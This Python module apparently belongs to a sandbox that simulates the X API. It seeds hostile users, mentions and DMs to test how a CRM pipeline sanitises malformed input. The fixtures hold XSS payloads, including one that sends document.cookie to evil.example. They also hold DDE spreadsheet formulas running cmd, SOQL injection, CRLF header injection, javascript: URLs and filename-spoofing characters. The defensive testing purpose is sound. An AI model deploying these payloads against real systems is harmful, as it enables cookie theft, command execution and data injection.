"""Hostile records for the X world: what a pipeline meets when the internet is the input.

``start_sandbox(hostile=True)`` adds, on top of the seeded world, users, mentions, quotes,
likes and DMs whose wire payloads are broken or dangerous in the ways real data is: missing
or null names and ids, wrong JSON types, emoji-only and right-to-left names, zero-width and
control characters, NUL, lone surrogates (sent as ``\\ud800`` escapes), HTML and script
tags, SOQL injection, spreadsheet formulas, a 100,000-character bio, the same id twice in
one page, impossible dates, and authors missing from ``includes.users``.

Each item carries ``hostile`` (what is wrong) and ``deliverable`` (whether a careful client
can still deliver it, after sanitising) into ``/_sandbox/state``. Items come from their own
``random.Random`` and take ids above every seeded one, so the seeded world (and every count
the other tests rely on) is identical whether or not hostile items were added. Only the
rendered payload is hostile: the stored id, author and time stay well-formed so paging and
``since_id`` keep working.
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field
from typing import Any

from sandbox.dm_seed import DMEvent, DMInbox
from sandbox.seed import ABSENT, DAY_MS, Reaction, World, XTweet, XUser, now_ms, snowflake

HOUR_MS = 3_600_000
FUTURE = "2099-01-01T00:00:00.000Z"
BIO_100K = ("Cloud enthusiast. " * 6000)[:100_000]
HYPERLINK = '=HYPERLINK("http://evil.example","click")'
CMD = "+cmd|' /C calc'!A0"
SUM = "@SUM(1+1)"
SOQL = "' OR Name != '"
SCRIPT = "<script>alert('xss')</script>"

# (what is hostile, deliverable, the user's display name, wire overrides)
USERS: list[tuple[str, bool, str, dict[str, Any]]] = [
    ("name missing", True, "Nameless", {"name": ABSENT}),
    ("name null", True, "Null Name", {"name": None}),
    ("username missing", True, "No Handle", {"username": ABSENT}),
    ("username null", True, "Null Handle", {"username": None}),
    ("name and username null", True, "Nobody", {"name": None, "username": None}),
    (
        "followers_count is a string",
        True,
        "Stringy Counts",
        {
            "public_metrics": {
                "followers_count": "1,204",
                "following_count": "12",
                "tweet_count": 88,
                "listed_count": 0,
            }
        },
    ),
    ("id is a JSON number, not a string", True, "Numeric Id", {"id": "<int>"}),
    ('verified is the string "yes"', True, "Verified Maybe", {"verified": "yes"}),
    ("emoji-only name", True, "🔥🚀💯", {}),
    ("right-to-left (Arabic) name", True, "محمد الأحمد", {}),
    ("RTL override character in name", True, "John \u202egnp.exe\u202c Smith", {}),
    (
        "zero-width characters in name and handle",
        True,
        "Ja\u200bne\u200d Doe\ufeff",
        {"username": "ja\u200bne_doe"},
    ),
    ("100,000-character bio", True, "Long Bio", {"description": BIO_100K}),
    ("NUL and control characters in name", True, "Bob\x00\x07\x1b[31mRed\x7f", {}),
    ("lone surrogate in name", True, "Ren\ud800e", {}),
    ("lone surrogate in bio", True, "Broken Bio", {"description": "half an emoji: \udfff"}),
    ("script tag in name", True, SCRIPT, {}),
    (
        "HTML in bio",
        True,
        "Markup Fan",
        {"description": '<img src=x onerror=alert(1)><a href="javascript:alert(2)">hi</a>'},
    ),
    ("SOQL injection in name", True, SOQL, {}),
    ("SOQL injection in handle", True, "Quote Handle", {"username": "x" + SOQL}),
    ("spreadsheet formula name (HYPERLINK)", True, HYPERLINK, {}),
    ("spreadsheet formula name (DDE cmd)", True, CMD, {}),
    ("spreadsheet formula name (@SUM)", True, SUM, {}),
    ("spreadsheet formula name (-)", True, "-2+3+cmd|' /C notepad'!A0", {}),
    ("300-character display name", True, ("Very Long Name " * 20)[:300], {}),
    (
        "handle longer than 15 characters",
        True,
        "Long Handle",
        {"username": "this_handle_is_way_too_long_for_x"},
    ),
    ("created_at in the year 2099", True, "Time Traveller", {"created_at": FUTURE}),
    ('created_at is "yesterday"', True, "Vague Date", {"created_at": "yesterday"}),
    ("id null", False, "Null Id", {"id": None}),
    ("id missing", False, "Missing Id", {"id": ABSENT}),
    ("id is an empty string", False, "Empty Id", {"id": ""}),
    ("public_metrics null", True, "No Metrics", {"public_metrics": None}),
    (
        "negative and 2**70 follower counts",
        True,
        "Odd Counts",
        {
            "public_metrics": {
                "followers_count": -5,
                "following_count": 2**70,
                "tweet_count": 1.5,
                "listed_count": None,
            }
        },
    ),
    (
        "homoglyph of the brand (Greek Alpha)",
        True,
        "Αcme Cloud Support",
        {"username": "acmec1oud_help"},
    ),
    ("CRLF header injection in name and location", True, "Eve\r\nBcc: all@evil.example", {}),
    ("whitespace-only name", True, " \t\u00a0\u3000 ", {}),
    ("combining characters (zalgo) name", True, "Z̴̡̛a̷͎͐l̸̰̈g̶̟̈́ơ̵̜", {}),
    (
        "javascript: URLs and null description",
        True,
        "Link Trap",
        {
            "url": "javascript:alert(document.domain)",
            "profile_image_url": "javascript:alert(1)",
            "description": None,
        },
    ),
    (
        'protected is the string "false", verified_type a number',
        True,
        "Wrong Types",
        {"protected": "false", "verified_type": 7},
    ),
]

# (what is hostile, deliverable, text, wire overrides, special)
# special: "author:<hostile user>", "author=unknown", "author=hidden", "twice",
# "reply-unknown-post"
MENTIONS: list[tuple[str, bool, str, dict[str, Any], str]] = [
    ("NUL and control characters in text", True, "{b} help\x00\x08 my account\x1b[2J", {}, ""),
    ("lone surrogate \\ud800 in text", True, "{b} broken \ud800 emoji", {}, ""),
    (
        "script tag in text",
        True,
        "{b} <script>fetch('//evil.example/'+document.cookie)</script>",
        {},
        "",
    ),
    ("SOQL injection in text", True, "{b} " + SOQL + " OR Id != null", {}, ""),
    ("spreadsheet formula text (HYPERLINK)", True, HYPERLINK + " {b}", {}, ""),
    ("spreadsheet formula text (DDE cmd)", True, CMD + " {b}", {}, ""),
    ("spreadsheet formula text (@SUM)", True, SUM + " {b}", {}, ""),
    ("25,000-character text", True, "{b} " + "pricing? " * 2777, {}, ""),
    ("same tweet id twice in one page", True, "{b} is this thing on?", {}, "twice"),
    (
        "created_at in the year 2099",
        True,
        "{b} greetings from the future",
        {"created_at": FUTURE},
        "",
    ),
    (
        'created_at is "yesterday"',
        True,
        "{b} posted yesterday-ish",
        {"created_at": "yesterday"},
        "",
    ),
    (
        "author_id names a user X does not know: absent from includes.users",
        False,
        "{b} who am I?",
        {},
        "author=unknown",
    ),
    (
        "author absent from includes.users (GET /2/users/:id has them)",
        True,
        "{b} where did my profile go",
        {},
        "author=hidden",
    ),
    ("id is a JSON number, not a string", True, "{b} numeric id", {"id": "<int>"}, ""),
    ("id null", False, "{b} no id", {"id": None}, ""),
    ("author_id null", False, "{b} anonymous", {"author_id": None}, ""),
    ("author_id missing", False, "{b} authorless", {"author_id": ABSENT}, ""),
    ("text null", True, "", {"text": None}, ""),
    ("text missing", True, "", {"text": ABSENT}, ""),
    ("empty text", True, "", {}, ""),
    ("zero-width characters only", True, "\u200b\u200c\u200d\ufeff", {}, ""),
    ("RTL override in text", True, "{b} \u202etxt.exe\u202c please open", {}, ""),
    ("emoji-only text", True, "🔥🔥🔥 {b} 🚀", {}, ""),
    (
        "entities.mentions indices out of range",
        True,
        "{b} entity soup",
        {"entities": {"mentions": [{"start": 500, "end": -3, "username": "acmecloud"}]}},
        "",
    ),
    (
        "line/paragraph separators and a CRLF header injection in text",
        True,
        "{b} line\u2028para\u2029\r\nX-Injected: 1\r\n\r\nbody",
        {},
        "",
    ),
    (
        "lang is a number, possibly_sensitive a string",
        True,
        "{b} types gone wrong",
        {"lang": 42, "possibly_sensitive": "no"},
        "",
    ),
    (
        "reply to a post that does not exist",
        True,
        "{b} replying to a ghost",
        {"in_reply_to_user_id": 12345},
        "reply-unknown-post",
    ),
    (
        "edit_history_tweet_ids is a string",
        True,
        "{b} edited?",
        {"edit_history_tweet_ids": "<id>"},
        "",
    ),
    (
        "author's name holds a lone surrogate",
        True,
        "{b} hello from Ren",
        {},
        "author:lone surrogate in name",
    ),
    (
        "JSON-looking text with escapes",
        True,
        '{b} \\u0000 "}]}, {"data":[{"id":"1"}]} \\',
        {},
        "",
    ),
]

QUOTES: list[tuple[str, bool, str, dict[str, Any], str]] = [
    ("spreadsheet formula in a quote", True, HYPERLINK, {}, ""),
    ("quote with author_id null", False, "nobody said this", {"author_id": None}, ""),
    ("same quote id twice in one page", True, "quoting twice", {}, "twice"),
    ("lone surrogate in a quote", True, "half a heart \udc9c", {}, ""),
    ("quote by a user with a script-tag name", True, "nice post", {}, "author:script tag in name"),
]

# (what is hostile, deliverable, text, wire overrides, special, topic)
DMS: list[tuple[str, bool, str | None, dict[str, Any], str, str]] = [
    (
        "NUL and control characters in text",
        True,
        "my invoice\x00 is\x1b[0m wrong",
        {},
        "",
        "support",
    ),
    ("lone surrogate \\ud800 in text", True, "app crashes \ud800 on start", {}, "", "support"),
    (
        "script tag in text",
        True,
        "<script>alert(document.cookie)</script> pricing?",
        {},
        "",
        "sales",
    ),
    ("spreadsheet formula text", True, HYPERLINK, {}, "", "spam"),
    ("SOQL injection in text", True, "refund " + SOQL + " please", {}, "", "support"),
    ("20,000-character text", True, "help " * 4000, {}, "", "support"),
    ("sender_id missing", False, "who sent this?", {"sender_id": ABSENT}, "", "support"),
    (
        "sender unknown to X: absent from includes.users",
        False,
        "ghost writer",
        {},
        "sender=unknown",
        "support",
    ),
    ("event id null", False, "no id on this one", {"id": None}, "", "support"),
    (
        'created_at is "yesterday"',
        True,
        "sent yesterday",
        {"created_at": "yesterday"},
        "",
        "support",
    ),
    ("created_at in the year 2099", True, "from the future", {"created_at": FUTURE}, "", "other"),
    ("same event id twice in one page", True, "did this arrive twice?", {}, "twice", "support"),
    ("MessageCreate with text null", True, None, {"text": None}, "", "other"),
    (
        "dm_conversation_id missing",
        True,
        "which thread?",
        {"dm_conversation_id": ABSENT},
        "",
        "support",
    ),
    (
        "sender's name is a spreadsheet formula",
        True,
        "please call me back",
        {},
        "sender:spreadsheet formula name (HYPERLINK)",
        "sales",
    ),
    (
        "sender has a 100,000-character bio",
        True,
        "how much is pro?",
        {},
        "sender:100,000-character bio",
        "sales",
    ),
    (
        "RTL override and zero-width characters",
        True,
        "bill\u202efdp.exe\u202c\u200b attached",
        {},
        "",
        "support",
    ),
    ("emoji-only text", True, "😡😡😡", {}, "", "other"),
    ("id is a JSON number, not a string", True, "numeric id", {"id": "<int>"}, "", "support"),
    (
        "CRLF header injection in text",
        True,
        "hi\r\nSubject: URGENT\r\n\r\nwire money",
        {},
        "",
        "spam",
    ),
]


@dataclass
class _Ids:
    """Ids above everything seeded, from the hostile stream only (world.rng stays untouched)."""

    world: World
    inbox: DMInbox
    rng: random.Random
    taken: set[int] = field(default_factory=set)

    def next(self, ms: int) -> str:
        candidate = max(int(snowflake(ms, self.rng.randrange(4096))), self.world.last_id + 1)
        while candidate in self.taken or candidate in self.inbox.used_ids:
            candidate += 1
        self.taken.add(candidate)
        self.inbox.used_ids.add(candidate)
        self.world.last_id = max(self.world.last_id, candidate)
        return str(candidate)


def _resolve(overrides: dict[str, Any], item_id: str) -> dict[str, Any]:
    resolved = dict(overrides)
    for key, value in overrides.items():
        if value == "<int>":
            resolved[key] = int(item_id)
        elif value == "<id>":
            resolved[key] = item_id
    return resolved


def add_hostile(
    world: World, inbox: DMInbox, seed: int, *, anchor_ms: int | None = None
) -> dict[str, int]:
    """Add every hostile item to the world; returns how many of each kind were added."""
    if anchor_ms is None:
        anchor_ms = (now_ms() // DAY_MS) * DAY_MS
    rng = random.Random(f"socialcrm-hostile-{seed}")
    ids = _Ids(world, inbox, rng)
    brand = world.brand
    normal = sorted(
        (u for u in world.users.values() if not u.suspended and u.hostile is None),
        key=lambda u: int(u.id),
    )
    clock = anchor_ms - 5 * HOUR_MS  # after the newest brand post, before the anchor

    def tick() -> int:
        nonlocal clock
        clock += rng.randrange(20_000, 90_000)
        return clock

    users: list[XUser] = []
    for n, (what, deliverable, name, overrides) in enumerate(USERS):
        uid = ids.next(tick())
        followers = rng.randrange(0, 5000)
        user = XUser(
            id=uid,
            name=name,
            username=f"hostile{n:02d}",
            created_ms=anchor_ms - rng.randrange(30, 3000) * DAY_MS,
            description="Just here to break things.",
            location="Paris\r\nX-Injected: 1" if "CRLF" in what else None,
            url=None,
            verified=False,
            profile_image_url=f"https://pbs.twimg.com/profile_images/{uid}/hostile_normal.jpg",
            public_metrics={
                "followers_count": followers,
                "following_count": rng.randrange(0, 900),
                "tweet_count": rng.randrange(1, 9000),
                "listed_count": followers // 200,
            },
            lang="en",
            hostile=what,
            deliverable=deliverable,
            overrides=_resolve(overrides, uid),
        )
        world.users[uid] = user
        users.append(user)

    by_what = {str(u.hostile): u for u in users}

    # Every hostile user likes one of the newest posts: liking_users serves them.
    recent = world.posts[-4:]
    for user in users:
        post = rng.choice(recent)
        like = Reaction("like", post.id, user.id, tick())
        like.hostile = f"like by a user whose {user.hostile}"
        like.deliverable = user.deliverable
        if user.hostile == "emoji-only name":  # listed twice in the same page
            like.hostile = "liker listed twice in one page; " + like.hostile
            like.twice = True
        world.reactions.append(like)

    def author(special: str) -> str:
        if special == "author=unknown":
            return ids.next(tick())  # an id no endpoint resolves
        if special.startswith("author:"):
            return by_what[special.split(":", 1)[1]].id
        return rng.choice(normal).id

    def add_tweets(items: list[tuple[str, bool, str, dict[str, Any], str]], kind: str) -> int:
        for what, deliverable, text, overrides, special in items:
            ms = tick()
            tid = ids.next(ms)
            body = text.replace("{b}", f"@{brand.username}")
            tweet = XTweet(tid, body, author(special), ms, "en", tid, kind)
            if kind == "quote":
                tweet.post_id = world.posts[-1].id
                tweet.text = f"{body} https://t.co/h0st1le{len(world.tweets) % 100:02d}"
            if special == "reply-unknown-post":
                tweet.kind, tweet.post_id = "reply", ids.next(ms - HOUR_MS)
                tweet.in_reply_to_user_id = brand.id
            tweet.hostile, tweet.deliverable = what, deliverable
            tweet.overrides = _resolve(overrides, tid)
            tweet.twice = special == "twice"
            tweet.author_in_includes = special != "author=hidden"
            world.tweets.append(tweet)
        return len(items)

    mentions = add_tweets(MENTIONS, "mention")
    quotes = add_tweets(QUOTES, "quote")

    for what, deliverable, text, overrides, special, topic in DMS:
        ms = tick()
        sender = rng.choice(normal).id
        if special == "sender=unknown":
            sender = ids.next(ms)
        elif special.startswith("sender:"):
            sender = by_what[special.split(":", 1)[1]].id
        event_id = ids.next(ms)
        event = DMEvent(
            id=event_id,
            event_type="MessageCreate",
            conversation_id=inbox.one_to_one(sender),
            sender_id=sender,
            created_ms=ms,
            text=text,
            topic=topic,
            hostile=what,
            deliverable=deliverable,
            overrides=_resolve(overrides, event_id),
            twice=special == "twice",
        )
        inbox.events.append(event)
    inbox.events.sort(key=lambda e: int(e.id))
    return {
        "users": len(users),
        "likes": len(users),
        "mentions": mentions,
        "quotes": quotes,
        "dms": len(DMS),
    }
